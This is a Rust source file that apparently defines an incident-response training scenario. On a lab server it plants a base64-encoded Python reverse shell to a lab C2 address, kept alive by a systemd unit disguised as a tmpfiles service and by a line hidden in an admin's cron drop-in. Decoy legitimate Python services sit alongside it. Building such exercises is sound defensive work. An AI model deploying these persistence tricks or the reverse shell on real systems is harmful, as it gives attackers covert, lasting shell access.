//! A fileless Python reverse shell kept alive by an innocent-looking
//! systemd unit, and re-armed by a line added to an admin's drop-in of
//! another unit; next to a packaged-looking Python service that pushes to
//! the NAS and an admin's long-running Python script.

use super::{Entry, Innocent, Malicious, Proc, Scenario, Step, INIT};
use crate::host::lab::topology::{Host, Segment};

pub(super) static SCENARIO: Scenario = Scenario {
    name: "systemd-shell",
    summary: "a base64-wrapped Python reverse shell run by the unit systemd-tmpfiles-sync.service (Restart=always, enabled) and by a line added to cron's drop-in; an ops Python service pushing to the NAS and an admin's Python script are innocent",
    story: "On the application server app (10.61.0.20) the attacker installed \
            /etc/systemd/system/systemd-tmpfiles-sync.service, enabled, Restart=always, whose \
            ExecStart is `python3 -c \"import base64;exec(base64.b64decode('...'))\"`: a reverse \
            shell to 198.18.7.9:3333 (the listener holds it open) that reconnects 3 s after \
            it drops. The address appears nowhere in clear. The same command was added as \
            ExecStartPost= to the admins' drop-in \
            /etc/systemd/system/cron.service.d/override.conf. nas-sync.service (python3 \
            /usr/local/lib/nas-sync/nas_sync.py, pushing to the NAS 10.61.0.50:873 every 3 s) \
            and the admin's /root/bin/db-report.py are legitimate Python too.",
    compromised: "app",
    victim: "198.18.7.9",
    victim_port: 3333,
    services: &["10.61.0.20:22", "10.61.0.20:80", "10.61.0.20:3306"],
    malicious: Malicious {
        processes: &[Proc {
            what: "the Python reverse shell (a daemon, as systemd starts it)",
            pattern: "base64.b64decode",
        }],
        files: &[],
        persistence: &[
            Entry {
                what: "the attacker's unit, running the reverse shell",
                path: "/etc/systemd/system/systemd-tmpfiles-sync.service",
                line: None,
            },
            Entry {
                what: "its wants link (enabled)",
                path: "/etc/systemd/system/multi-user.target.wants/systemd-tmpfiles-sync.service",
                line: None,
            },
            Entry {
                what: "the line added to the admins' drop-in for cron.service",
                path: "/etc/systemd/system/cron.service.d/override.conf",
                line: Some(SS_DROPIN_LINE),
            },
        ],
        approval: &[],
    },
    innocent: Innocent {
        processes: &[
            INIT,
            Proc {
                what: "sshd, Apache and MariaDB",
                pattern: "lab serve --role server",
            },
            Proc {
                what: "nas-sync.service (Python, pushes to the NAS)",
                pattern: "/usr/local/lib/nas-sync/nas_sync.py",
            },
            Proc {
                what: "the admin's Python report script",
                pattern: "/root/bin/db-report.py",
            },
        ],
        files: &[
            "/etc/systemd/system/nas-sync.service",
            "/etc/systemd/system/multi-user.target.wants/nas-sync.service",
            "/usr/local/lib/nas-sync/nas_sync.py",
            "/root/bin/db-report.py",
        ],
        flows: &["10.61.0.50:873"],
    },
    segments: &[
        Segment {
            name: "lan",
            router_addr: "10.61.0.1/24",
            router_mac: "52:54:00:3d:00:01",
        },
        Segment {
            name: "internet",
            router_addr: "198.18.7.1/24",
            router_mac: "52:54:00:c6:07:01",
        },
    ],
    hosts: &[
        Host {
            name: "analyst",
            segment: Some("lan"),
            addr: "10.61.0.100/24",
            mac: "52:54:00:3d:00:64",
            serve: None,
            what: "the responder's seat",
        },
        Host {
            name: "app",
            segment: Some("lan"),
            addr: "10.61.0.20/24",
            mac: "52:54:00:3d:00:14",
            serve: Some("server"),
            what: "application server: ssh 22, http 80, mysql 3306, nas-sync.service; runs the reverse shell",
        },
        Host {
            name: "nas",
            segment: Some("lan"),
            addr: "10.61.0.50/24",
            mac: "52:54:00:3d:00:32",
            serve: Some("nas"),
            what: "the NAS (rsync 873), logs each push in /var/log/rsyncd.log",
        },
        Host {
            name: "c2",
            segment: Some("internet"),
            addr: "198.18.7.9/24",
            mac: "52:54:00:c6:07:09",
            serve: Some("pool"),
            what: "the attacker's reverse-shell listener (3333): holds each shell open",
        },
    ],
    steps: &[
        Step::Write {
            path: "/usr/local/lib/nas-sync/nas_sync.py",
            content: SS_NAS_SYNC,
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/nas-sync.service",
            content: "[Unit]\nDescription=Push the data manifest to the NAS\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/bin/python3 /usr/local/lib/nas-sync/nas_sync.py\nRestart=always\nRestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/multi-user.target.wants/nas-sync.service",
            target: "/etc/systemd/system/nas-sync.service",
        },
        Step::Write {
            path: "/root/bin/db-report.py",
            content: SS_DB_REPORT,
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/systemd-tmpfiles-sync.service",
            content: SS_UNIT,
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/multi-user.target.wants/systemd-tmpfiles-sync.service",
            target: "/etc/systemd/system/systemd-tmpfiles-sync.service",
        },
        Step::Write {
            path: "/etc/systemd/system/cron.service.d/override.conf",
            content: SS_DROPIN,
            mode: 0o644,
            owner: "root:root",
        },
        // What systemd would have started (no systemd runs in a lab host):
        // the services as daemons, the admin's script from a shell long gone.
        Step::Start {
            argv: &["/usr/bin/python3", "/usr/local/lib/nas-sync/nas_sync.py"],
            user: None,
        },
        Step::Start {
            argv: &["/usr/bin/python3", "/root/bin/db-report.py"],
            user: None,
        },
        Step::Start {
            argv: &["/usr/bin/python3", "-c", SS_CODE],
            user: None,
        },
        Step::WaitProc("/usr/local/lib/nas-sync/nas_sync.py"),
        Step::WaitProc("/root/bin/db-report.py"),
        Step::WaitProc("base64.b64decode"),
    ],
};

/// The reverse shell: connect to 198.18.7.9:3333, give it `sh -i`, again
/// 3 s after it hangs up (base64 of a plain loop, as droppers ship it).
macro_rules! code {
    () => {
        "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLHRpbWUKd2hpbGUgVHJ1ZToKICAgIHRyeToKICAgICAgICBzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoIjE5OC4xOC43LjkiLDMzMzMpLDUpCiAgICAgICAgcy5zZXR0aW1lb3V0KE5vbmUpCiAgICAgICAgc3VicHJvY2Vzcy5jYWxsKFsiL2Jpbi9zaCIsIi1pIl0sc3RkaW49cyxzdGRvdXQ9cyxzdGRlcnI9cykKICAgICAgICBzLmNsb3NlKCkKICAgIGV4Y2VwdCBPU0Vycm9yOgogICAgICAgIHBhc3MKICAgIHRpbWUuc2xlZXAoMykK'))"
    };
}
const SS_CODE: &str = code!();

const SS_UNIT: &str = concat!(
    "[Unit]\nDescription=Synchronise temporary files and directories\n",
    "After=network-online.target\n\n[Service]\nType=simple\n",
    "ExecStart=/usr/bin/python3 -c \"",
    code!(),
    "\"\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\n",
);

const SS_DROPIN_LINE: &str = concat!(
    "ExecStartPost=/usr/bin/setsid -f /usr/bin/python3 -c \"",
    code!(),
    "\""
);

/// The admins' own drop-in (lower priority for cron), with the attacker's
/// line added at the end.
const SS_DROPIN: &str = concat!(
    "# ops: run cron jobs at a lower priority (ticket OPS-4411)\n",
    "[Service]\nNice=5\nIOSchedulingClass=idle\n",
    "ExecStartPost=/usr/bin/setsid -f /usr/bin/python3 -c \"",
    code!(),
    "\"\n",
);

const SS_NAS_SYNC: &str = r#"#!/usr/bin/python3
"""nas-sync: pushes the manifest of the data folders to the NAS's rsync
daemon every few seconds (packaged by the ops team)."""
import os
import socket
import time

NAS = ("10.61.0.50", 873)

while True:
    files = sorted(os.path.join(d, f) for d, _, fs in os.walk("/var/backups") for f in fs)
    try:
        with socket.create_connection(NAS, 5) as s:
            s.recv(64)
            s.sendall(("\n".join(files) + "\n").encode())
    except OSError:
        pass
    time.sleep(3)
"#;

const SS_DB_REPORT: &str = r#"#!/usr/bin/python3
# db-report: samples the size of /var/lib every minute for the capacity report
import shutil
import time

while True:
    used = shutil.disk_usage("/var/lib").used
    with open("/var/log/db-report.log", "a") as f:
        f.write(f"{time.time():.0f} {used}\n")
    time.sleep(60)
"#;
